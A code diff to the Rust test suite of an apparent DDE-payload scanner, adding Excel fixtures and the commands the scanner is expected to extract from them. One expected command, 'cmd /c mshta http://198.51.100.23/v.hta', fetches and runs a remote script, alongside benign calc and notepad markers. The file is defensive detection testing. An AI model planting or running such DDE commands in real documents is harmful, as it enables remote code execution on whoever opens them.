@@ -86,7 +86,28 @@ const POSITIVES: &[(&str, &str, &[&str])] = &[
         "ddesweep.document.dde_formula",
         &["cmd /c calc.exe"],
     ),
+    (
+        "excel-legacy.xls",
+        "ddesweep.document.dde_link",
+        &["cmd /c calc.exe"],
+    ),
+    (
+        "excel-binary.xlsb",
+        "ddesweep.document.dde_link",
+        &["cmd /c notepad.exe"],
+    ),
+    (
+        "excel-legacy-velvet.xls",
+        "ddesweep.document.dde_link",
+        &["cmd /c mshta http://198.51.100.23/v.hta"],
+    ),
 ];
+
+/// Findings without a command that positive fixtures also yield: (fixture, rule).
+const NOTICES: &[(&str, &str)] = &[(
+    "excel-legacy-velvet.xls",
+    "ddesweep.document.default_password",
+)];
 
 #[test]
 fn positive_fixtures_yield_their_exact_commands() {
@@ -94,10 +115,11 @@ fn positive_fixtures_yield_their_exact_commands() {
     let run = scan(&[&folder], &[]);
     assert_eq!(run.code, 0, "{}", run.stderr);
     for (name, rule, commands) in POSITIVES {
+        let notices = NOTICES.iter().filter(|(n, _)| n == name).count();
         let found: Vec<(String, String, String)> = run
             .findings()
             .into_iter()
-            .filter(|(path, _, _)| path == name)
+            .filter(|(path, rule, _)| path == name && !NOTICES.contains(&(name, rule.as_str())))
             .collect();
         let mut got: Vec<&str> = found.iter().map(|(_, _, c)| c.as_str()).collect();
         got.sort_unstable();
@@ -107,11 +129,11 @@ fn positive_fixtures_yield_their_exact_commands() {
         }
         let artifact = run.artifact(name);
         assert_eq!(artifact["status"], "analyzed", "{name}: {artifact}");
-        assert_eq!(artifact["findings"], commands.len(), "{name}");
+        assert_eq!(artifact["findings"], commands.len() + notices, "{name}");
     }
     assert_eq!(run.manifest["totals"]["seen"], POSITIVES.len());
     assert_eq!(run.manifest["totals"]["analyzed"], POSITIVES.len());
-    let expected: usize = POSITIVES.iter().map(|(_, _, c)| c.len()).sum();
+    let expected: usize = POSITIVES.iter().map(|(_, _, c)| c.len()).sum::<usize>() + NOTICES.len();
     assert_eq!(run.manifest["totals"]["findings"], expected);
 }
 
@@ -173,7 +195,7 @@ fn negative_fixtures_yield_no_findings() {
     assert_eq!(run.code, 0, "{}", run.stderr);
     assert_eq!(run.findings(), Vec::<(String, String, String)>::new());
     assert_eq!(run.rows.len(), 0, "no DDE document, no context rows");
-    assert_eq!(run.manifest["totals"]["seen"], 4);
-    assert_eq!(run.manifest["totals"]["analyzed"], 4);
+    assert_eq!(run.manifest["totals"]["seen"], 5);
+    assert_eq!(run.manifest["totals"]["analyzed"], 5);
     assert_eq!(run.manifest["totals"]["findings"], 0);
 }
